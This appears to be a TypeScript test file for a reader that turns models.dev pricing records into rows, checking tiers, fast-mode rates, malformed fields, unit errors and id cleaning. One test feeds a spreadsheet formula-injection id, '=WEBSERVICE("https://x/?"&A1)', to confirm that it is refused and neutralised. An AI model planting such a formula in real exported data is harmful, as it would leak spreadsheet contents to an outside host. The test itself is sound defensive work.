import { admitRows } from '../../src/catalog/admitRows';
import { MODELS_DEV_FEED } from '../../src/feeds/modelsDev/modelsDevFeed';
import { readFromLoopback } from '../support/readFromLoopback';

// Figures: anomalyco/models.dev providers/openai/models/gpt-5.6-sol.toml at 47eabd6, providers/anthropic/models/
// claude-opus-4-6.toml at 7fbe224, in the shape of api.json (packages/core/src/schema.ts), read 2026-11-24.
const DESCRIBED = {
  ...{ attachment: true, reasoning: true, tool_call: true, temperature: false, open_weights: false },
  ...{
    release_date: '2026-08-21',
    last_updated: '2026-09-01',
    modalities: { input: ['text', 'image'], output: ['text'] },
  },
};
const SOL = {
  ...{
    id: 'gpt-5.6-sol',
    name: 'GPT-5.6 Sol',
    ...DESCRIBED,
    limit: { context: 1_050_000, input: 922_000, output: 128_000 },
  },
  cost: {
    ...{ input: 2, output: 10, cache_read: 0.2, cache_write: 2.5 },
    tiers: [{ input: 4, output: 15, cache_read: 0.4, cache_write: 5, tier: { type: 'context', size: 272_000 } }],
    context_over_200k: { input: 4, output: 15, cache_read: 0.4, cache_write: 5 },
  },
  experimental: {
    modes: {
      fast: {
        cost: { input: 4, output: 20, cache_read: 0.4, cache_write: 2.5 },
        provider: { body: { service_tier: 'priority' } },
      },
      pro: { provider: { body: { reasoning: { mode: 'pro' } } } },
    },
  },
};
const OPUS = {
  ...{ id: 'claude-opus-4-6', name: 'Claude Opus 4.6', ...DESCRIBED, limit: { context: 1_000_000, output: 128_000 } },
  cost: { input: 5, output: 25, cache_read: 0.5, cache_write: 6.25 },
};
const provider = (id: string, ...models: object[]) => ({
  [id]: {
    id,
    name: id,
    env: ['KEY'],
    npm: '@ai-sdk/x',
    doc: 'https://x',
    models: Object.fromEntries(models.map((model) => [(model as { id: string }).id, model])),
  },
});
const api = (...providers: object[]) => JSON.stringify(Object.assign({}, ...providers) as object);
const read = (text: string) => readFromLoopback(MODELS_DEV_FEED, text);
const from = { source: 'models.dev', checked: '2026-11-23' };
const TODAY = { today: '2026-11-23' };

test('a record becomes a card, its tier an overlay on the vendor’s side of the threshold, its fast mode a tier', async () => {
  const { rows, unreadable } = await read(api(provider('openai', SOL)));
  const model = { provider: 'openai', model: 'gpt-5.6-sol' };
  expect(unreadable).toEqual([]);
  expect(rows).toEqual([
    {
      ...{ ...model, name: 'GPT-5.6 Sol', context_window: 1_050_000, max_output: 128_000 },
      ...{ input: 2, output: 10, cached_input: 0.2, cache_write: 2.5, ...from },
    },
    { ...model, ctx_from: 272_000, input: 4, output: 15, cached_input: 0.4, cache_write: 5, ...from },
    { ...model, tier: 'fast', input: 4, output: 20, cached_input: 0.4, cache_write: 2.5, ...from },
    {
      ...{
        ...model,
        tier: 'fast',
        ctx_from: 272_000,
        input: 8,
        output: 30,
        cached_input: 0.8,
        cache_write: 5,
        ...from,
      },
      note: 'long-context rates scaled as this tier scales the others',
    },
  ]);
  expect(admitRows(rows, [], TODAY)).toMatchObject({ kind: 'admitted', quarantined: [] });
});

test('context_over_200k is never read: it is not 200k for most of the records that have it', async () => {
  const cost = { input: 3, output: 15, context_over_200k: { input: 6, output: 22.5 } };
  const { rows } = await read(api(provider('anthropic', { ...OPUS, cost })));
  expect(rows).toHaveLength(1);
  expect(rows[0]).toMatchObject({ input: 3, output: 15 });
});

test.each([
  ['a misspelt price field', { ...OPUS, cost: { ...OPUS.cost, cached_input: 0.5 } }],
  ['P07 no output price', { ...OPUS, cost: { input: 5 } }],
  [
    'a tier by the time of day',
    { ...OPUS, cost: { ...OPUS.cost, tiers: [{ input: 1, output: 2, tier: { type: 'time', windows: [] } }] } },
  ],
  [
    'two tiers of one size',
    {
      ...OPUS,
      cost: {
        ...OPUS.cost,
        tiers: [1, 2].map((input) => ({ input, output: 9, tier: { type: 'context', size: 200_000 } })),
      },
    },
  ],
  [
    'a misspelt price of the fast mode',
    { ...OPUS, experimental: { modes: { fast: { cost: { input: 10, output: 50, cache: 1 } } } } },
  ],
])('%s leaves out that record and keeps the others', async (_fault, broken) => {
  const { rows, unreadable } = await read(api(provider('openai', SOL), provider('anthropic', broken)));
  expect(new Set(rows.map(({ model }) => model))).toEqual(new Set(['gpt-5.6-sol']));
  expect(unreadable).toEqual([
    {
      what: 'anthropic claude-opus-4-6',
      reason: 'the record has another format, misspells a price field or repeats a key',
    },
  ]);
});

test('P08 a price or a model given twice leaves out that model', async () => {
  const twicePriced = await read(api(provider('anthropic', OPUS)).replace('"input":5', '"input":5,"input":50'));
  expect(twicePriced).toMatchObject({ rows: [], unreadable: [{ what: 'anthropic claude-opus-4-6' }] });
  const record = JSON.stringify({ ...OPUS, cost: { input: 1, output: 5 } });
  const twiceListed = await read(
    api(provider('anthropic', OPUS)).replace('"models":{', `"models":{"claude-opus-4-6":${record},`),
  );
  expect(twiceListed).toMatchObject({ rows: [], unreadable: [{ what: 'anthropic claude-opus-4-6' }] });
});

test.each([
  ['of the card', { ...OPUS, cost: { input: 0.000005, output: 0.000025 } }],
  [
    'above a threshold',
    { ...OPUS, cost: { ...OPUS.cost, tiers: [{ input: 0.000005, output: 0.000025, tier: { size: 200_000 } }] } },
  ],
  ['of the fast mode', { ...OPUS, experimental: { modes: { fast: { cost: { input: 0.000005, output: 0.000025 } } } } }],
])(
  'P04 a price %s per token in the place of one per 1M tokens is held back by the admission',
  async (_where, model) => {
    const { rows } = await read(api(provider('anthropic', model)));
    expect(admitRows(rows, [], TODAY).quarantined.map(({ reason }) => reason)).toEqual([
      'its input price is 0.000005 USD per 1M tokens: it is in another unit',
    ]);
  },
);

test('P01 P02 negative and zero prices are held back by the admission, and the price in force is kept', async () => {
  const { rows } = await read(
    api(
      provider(
        'anthropic',
        { ...OPUS, cost: { input: -1, output: 25 } },
        { ...OPUS, id: 'b', cost: { input: 0, output: 0 } },
      ),
    ),
  );
  const inForce = rows.map(({ model }) => ({ provider: 'anthropic', model, input: 5, output: 25 }));
  const admission = admitRows(rows, inForce, TODAY);
  expect(admission.quarantined.map(({ reason }) => reason)).toEqual([
    'input is negative (-1)',
    'input is 0 and the row is not marked free',
  ]);
  expect(admission).toMatchObject({ kind: 'rejected' });
});

test('a cache rate of 0 is blank, a model without a cost is passed over, and so is a provider that is not carried', async () => {
  const { rows, unreadable } = await read(
    api(
      provider('anthropic', { ...OPUS, cost: { ...OPUS.cost, cache_read: 0 } }, { id: 'unpriced', ...DESCRIBED }),
      provider('openrouter', OPUS),
      provider('constructor', OPUS),
    ),
  );
  expect(unreadable).toEqual([]);
  expect(rows.map(({ provider: seller, model, cached_input }) => [seller, model, cached_input])).toEqual([
    ['anthropic', 'claude-opus-4-6', undefined],
  ]);
});

test('ids lose what Excel would read as a formula, and Vertex AI’s word for no version', async () => {
  const { rows } = await read(
    api(
      provider('cloudflare-workers-ai', { ...OPUS, id: '@cf/x/y' }),
      provider('google-vertex-anthropic', { ...OPUS, id: 'claude-opus-5@default' }),
    ),
  );
  expect(rows.map(({ provider: seller, model }) => `${seller} ${model}`)).toEqual([
    'cloudflare cf/x/y',
    'google-vertex claude-opus-5',
  ]);
});

test('P13 an id that is a formula is refused by the admission and shown with its signs replaced', async () => {
  const { rows } = await read(api(provider('openai', { ...OPUS, id: '=WEBSERVICE("https://x/?"&A1)' })));
  expect(admitRows(rows, [], TODAY).quarantined.map(({ reason }) => reason)).toEqual([
    'the model name has characters that no model id has',
  ]);
  const { unreadable } = await read(api(provider('openai', { ...OPUS, id: '=A1', cost: { in: 1 } })));
  expect(unreadable[0].what).toBe('openai ·A1');
});

test.each([
  ['a list', '[]', 'The data from models.dev is not a set of providers.'],
  [
    'none of its providers',
    '{"somebody":{"models":{}}}',
    'The data from models.dev has none of the providers it should have.',
  ],
  [
    'cut off',
    api(provider('openai', SOL)).slice(0, -20),
    'The data from models.dev is not valid JSON, so nothing was changed.',
  ],
])('a text that is %s is refused as a whole', async (_what, text, sentence) => {
  await expect(read(text)).rejects.toThrow(sentence);
});
